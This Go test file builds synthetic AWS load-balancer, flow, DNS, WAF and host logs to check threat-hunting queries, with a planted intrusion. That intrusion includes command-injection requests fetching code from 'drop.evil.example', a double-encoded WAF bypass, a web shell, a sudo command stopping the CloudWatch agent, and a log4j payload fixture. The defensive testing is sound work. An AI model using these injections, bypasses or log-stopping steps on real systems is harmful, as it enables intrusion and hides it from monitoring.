package queries

import (
	"bytes"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
	"time"
)

// A day of requests at a host behind a load balancer, as ordinary ones are, and the same with an intruder in it; and requests that
// others logged.

const (
	webHost, webInstance = "10.0.1.5", "i-0a1b2c3d4e5f60718"
	webNode, webIntruder = "10.0.0.10", "203.0.113.9"
)

// webDay is the logs of such a day.
type webDay struct {
	alb, flow, dns, waf bytes.Buffer
	events              []map[string]any
	stopped             time.Time
	rng                 *rand.Rand
	port, no            int
	plain               bool // see dayOfRequests
}

func (d *webDay) shipped(at time.Time, stream, message string) {
	if d.stopped.IsZero() || at.Before(d.stopped) {
		d.events = append(d.events, map[string]any{"logStreamName": webInstance + "/" + stream, "timestamp": at.UnixMilli(), "message": message,
			"ingestionTime": at.UnixMilli() + 1500, "eventId": fmt.Sprint(100_000*d.no + len(d.events) + 1)})
	}
}

// written is a line of the host's web server.
func (d *webDay) written(at time.Time, peer, forwarded, request string, status, bytes int) {
	if d.plain {
		d.bare(d.late(at), peer, request, status, bytes)
		return
	}
	d.shipped(at, "access_log", fmt.Sprintf(`%s - - [%s] "%s HTTP/1.1" %d %d "-" "agent/1.0" "%s"`, peer, at.Format("02/Jan/2006:15:04:05 -0700"), request,
		status, bytes, forwarded))
}

// asked is a request through the load balancer: handed over, unless it refuses it, and written by the host, unless somebody hides it.
func (d *webDay) asked(at time.Time, client, method, uri string, status, bytes int, refused, hidden bool) {
	target, group, actions := webHost+":80", "arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/web/73e2d6bc24d8a067", "waf,forward"
	times := "0.001 0.020 0.000"
	if refused {
		target, group, actions, times = "-", "-", "waf", "-1 -1 -1"
		path, args, _ := strings.Cut(uri, "?")
		fmt.Fprintf(&d.waf, `{"timestamp":%d,"webaclId":"arn:aws:wafv2:us-east-2:123456789012:regional/webacl/web/1","terminatingRuleId":"common",`+
			`"terminatingRuleType":"REGULAR","action":"BLOCK","httpSourceName":"ALB","httpRequest":{"clientIp":%q,"headers":[{"name":"Host",`+
			`"value":"www.corp.example"}],"uri":%q,"args":%q,"httpMethod":%q,"requestId":"r%d-%d"}}`+"\n",
			at.UnixMilli(), client, path, args, method, at.UnixMilli(), d.no)
	} else {
		d.connected(at, webNode, webHost, 80)
		if d.plain {
			d.judged(d.late(at), "ALLOW", client, method, uri, "-")
		}
		if !hidden {
			d.written(at, webNode, client, method+" "+uri, status, bytes)
		}
	}
	fmt.Fprintf(&d.alb, `https %s app/web/50dc6c495c0c9188 %s:40000 %s %s %d %s 300 %d "%s https://www.corp.example:443%s HTTP/1.1" "agent/1.0" - - %s `+
		`"Root=1-%08x-%024x" "www.corp.example" "-" 1 %s "%s" "-" "-" "%s" "-" "-" "-" TID_%016x "-" "-" "-" %s`+"\n",
		at.Add(22*time.Millisecond).Format(micros), client, target, times, status, map[bool]string{true: "-", false: fmt.Sprint(status)}[refused], bytes,
		method, uri, group, at.Unix(), d.rng.Uint64(), at.Format(micros), actions, target, d.rng.Uint64(), webNode)
}

const micros = "2006-01-02T15:04:05.000000Z"

// connected is a connection as the host's interface logs it.
func (d *webDay) connected(at time.Time, client, server string, port int) {
	d.port++
	in, out := "ingress", "egress"
	if client == webHost {
		in, out = out, in
	}
	line := "3 123456789012 eni-0web %s %s %d %d 6 6 %d %d %d ACCEPT OK vpc-0a subnet-0a %s %d IPv4 %s %s - - - - - - %s\n"
	from := 20_000 + d.port%40_000
	fmt.Fprintf(&d.flow, strings.Replace(line, "3 ", "5 ", 1), client, server, from, port, 900, at.Unix(), at.Unix()+2, webInstance, 3, client, server, in)
	fmt.Fprintf(&d.flow, strings.Replace(line, "3 ", "5 ", 1), server, client, port, from, 4000, at.Unix(), at.Unix()+2, webInstance, 19, server, client, out)
}

// called is a name that the host asks for, and a connection to it.
func (d *webDay) called(at time.Time, name, address string) {
	fmt.Fprintf(&d.dns, `{"version":"1.100000","account_id":"123456789012","region":"us-east-2","vpc_id":"vpc-0a","query_timestamp":%q,"query_name":%q,`+
		`"query_type":"A","query_class":"IN","rcode":"NOERROR","answers":[{"Rdata":%q,"Type":"A","Class":"IN"}],"srcaddr":%q,"srcport":"%d",`+
		`"transport":"UDP","srcids":{"instance":%q}}`+"\n", at.Format("2006-01-02T15:04:05Z"), name+".", address, webHost, 4000+d.no, webInstance)
	d.connected(at.Add(time.Second), webHost, address, 443)
}

// late is a moment as another log has it, up to 700 ms later, on a plain day.
func (d *webDay) late(at time.Time) time.Time {
	if d.plain {
		return at.Add(time.Duration(d.rng.IntN(700)) * time.Millisecond)
	}
	return at
}

// dayOfRequests is twelve hours; bad says whether somebody comes in. On a plain one the web server does not log X-Forwarded-For,
// the firewall logs what it lets in as well, the logs' times differ, and the host asks for its own site's name.
func dayOfRequests(bad, plain bool) map[string][]byte {
	d := &webDay{rng: rand.New(rand.NewPCG(14, 1)), plain: plain}
	if plain {
		d.no = 1
	}
	begin := time.Date(2026, 11, 2, 6, 0, 0, 0, time.UTC)
	if bad {
		d.stopped = begin.Add(6*time.Hour + 30*time.Minute + 5*time.Second)
	}
	d.flow.WriteString("version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status vpc-id subnet-id " +
		"instance-id tcp-flags type pkt-srcaddr pkt-dstaddr region az-id sublocation-type sublocation-id " +
		"pkt-src-aws-service pkt-dst-aws-service flow-direction\n")
	pages := strings.Fields("/ /search?q=a%20b /login /item?id=5 /upload /api/v1/items /static/app.js " +
		"/files/list?dir=/ /report.php?act=month /admin/run.php?cmd=rebuild")
	for at := begin; at.Before(begin.Add(12 * time.Hour)); at = at.Add(time.Duration(10+d.rng.IntN(60)) * time.Second) {
		client, uri := fmt.Sprintf("198.51.100.%d", 1+d.rng.IntN(250)), pages[d.rng.IntN(len(pages))]
		method, status := "GET", 200
		if uri == "/login" || uri == "/upload" {
			method, status = "POST", []int{200, 302, 403}[d.rng.IntN(3)]
		}
		d.asked(at, client, method, uri, status, 4000+d.rng.IntN(3000), false, false)
		switch d.rng.IntN(60) {
		case 0: // the internet's noise, at both doors
			d.asked(at.Add(time.Second), "192.0.2.7", "GET", "/.env", 403, 300, true, false)
			d.written(at.Add(2*time.Second), "192.0.2.9", "-", "GET /cgi-bin/luci;id", 404, 200)
			d.connected(at.Add(2*time.Second), "192.0.2.9", webHost, 80)
		case 3:
			if plain {
				d.called(at, "www.corp.example", "198.51.100.254")
			}
		case 1:
			d.called(at, []string{"updates.os.example", "logs.us-east-2.amazonaws.com", "api.partner.example"}[d.rng.IntN(3)], "192.0.2.80")
		case 2:
			d.shipped(at, "auth.log", at.Format("Jan _2 15:04:05")+" web sshd[900]: Accepted publickey for ops from 10.0.9.9 port 50000 ssh2")
		}
	}
	if bad {
		d.intrude(begin.Add(6 * time.Hour))
	}
	page, _ := json.Marshal(map[string]any{"events": d.events, "searchedLogStreams": []any{}})
	return map[string][]byte{"alb.log": d.alb.Bytes(), "flow.log": d.flow.Bytes(), "dns.log": d.dns.Bytes(), "waf.log": d.waf.Bytes(), "host.json": page}
}

// intrude is what the hunts are to find, from a moment on.
func (d *webDay) intrude(at time.Time) {
	d.asked(at, webIntruder, "GET", "/item?id=5;wget+http://drop.evil.example/x", 403, 300, true, false)
	d.asked(at.Add(30*time.Second), webIntruder, "GET", "/item?id=5%253Bwget%2520http://drop.evil.example/x", 200, 120, false, false)
	d.called(at.Add(33*time.Second), "drop.evil.example", "203.0.113.77")
	d.written(at.Add(time.Minute), webIntruder, "-", "GET /item?id=5%3Bid", 200, 90)
	d.connected(at.Add(time.Minute), webIntruder, webHost, 80)
	for i := range 5 {
		d.asked(at.Add(time.Duration(2+i)*time.Minute), webIntruder, "POST", "/uploads/a.php?c=id", 200, 100, false, i > 0)
	}
	d.shipped(at.Add(30*time.Minute), "auth.log", at.Add(30*time.Minute).Format("Jan _2 15:04:05")+
		" web sudo:   ops : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/systemctl stop amazon-cloudwatch-agent")
}

// requestHunts are what each hunt for requests is to find of the intruder.
var requestHunts = map[string]map[string]string{
	"exploit-strings":           {"src": webIntruder, "dst": webHost},
	"who-fetched-the-shell":     {"src": webIntruder, "path": "/uploads/a.php"},
	"blocked-then-let-in":       {"src": webIntruder, "path": "/item"},
	"past-the-front-door":       {"dst": webHost},
	"what-did-the-host-do-next": {"client": webHost, "name": "drop.evil.example", "request_from": webIntruder},
	"call-back-names":           {"client": webHost, "name": "drop.evil.example"},
	"when-did-the-log-stop":     {"client": webHost, "instance_id": webInstance},
	"log-differences":           {"client": webHost, "missing": "4"},
}

// plantedRequests is which of them do, at high or medium.
func plantedRequests(t *testing.T) map[string][2]int {
	of := map[string][2]int{}
	for _, plain := range []bool{false, true} {
		db := loaded(t, dayOfRequests(true, plain))
		for hunt, about := range requestHunts {
			n := 0
			for _, f := range findingsOf(t, db, hunt, nil) {
				if f.about(about) && f.serious() {
					n = 1
				} else if *verbose {
					t.Logf("plain %v: %s %s: %s", plain, hunt, f.severity, f.reason)
				}
			}
			of[hunt] = [2]int{of[hunt][0] + n, of[hunt][1] + 1}
		}
	}
	return of
}

// obfuscated is how many published spellings of a look-up of log4j are found in a query.
func obfuscated(t *testing.T) map[string][2]int {
	var log bytes.Buffer
	sent := 0
	for _, line := range lines(t, fixture(t, "access/Puliczek+CVE-2021-44228-PoC-log4j-bypass-words/README.payload-lines.extracted.txt")) {
		text := strings.Trim(line, "`")
		if len(text)+2 != len(line) || !strings.Contains(text, "somesitehackerofhell.com") {
			continue
		}
		sent++
		fmt.Fprintf(&log, "203.0.113.%d - - [02/Nov/2026:10:00:00 +0000] \"GET /?x=%s HTTP/1.1\" 404 20 \"-\" \"-\"\n", sent,
			strings.NewReplacer(`\`, `\\`, " ", "%20", "\"", "%22").Replace(text))
	}
	found := 0
	for _, f := range findingsOf(t, loaded(t, map[string][]byte{"access.log": log.Bytes()}), "exploit-strings", nil) {
		if strings.Contains(f.text("kinds"), "log4shell") {
			found++
		} else if *verbose {
			t.Logf("not told: %s", f.reason)
		}
	}
	return map[string][2]int{"exploit-strings": {found, sent}}
}

// TestAPageIsNotNewInAWindow: a script that was asked for before the window, and soon after its log began, is not told as new.
func TestAPageIsNotNewInAWindow(t *testing.T) {
	var d guessedDay
	begin := time.Date(2026, 11, 2, 6, 0, 0, 0, time.UTC)
	for minute := range 400 {
		d.asked(begin.Add(time.Duration(minute)*time.Minute), "198.51.100.7", "GET", "/", 200, 4000)
	}
	for i := range 10 {
		d.asked(begin.Add(10*time.Minute+time.Duration(i)*time.Second), "203.0.113.9", "POST", "/uploads/a.php", 200, 100)
		d.asked(begin.Add(6*time.Hour+10*time.Minute+time.Duration(i)*time.Second), "203.0.113.9", "POST", "/uploads/a.php", 200, 100)
	}
	db := loaded(t, map[string][]byte{"access.log": d.access.Bytes()})
	found := findingsOf(t, db, "who-fetched-the-shell", map[string]string{"from": "2026-11-02 11:00"})
	if len(found) != 1 || found[0].severity != "low" || !strings.Contains(found[0].reason, "asked for 10 times") ||
		!strings.Contains(found[0].reason, "first 0.2 hours after the log begins") {
		t.Errorf("%v", found)
	}
}
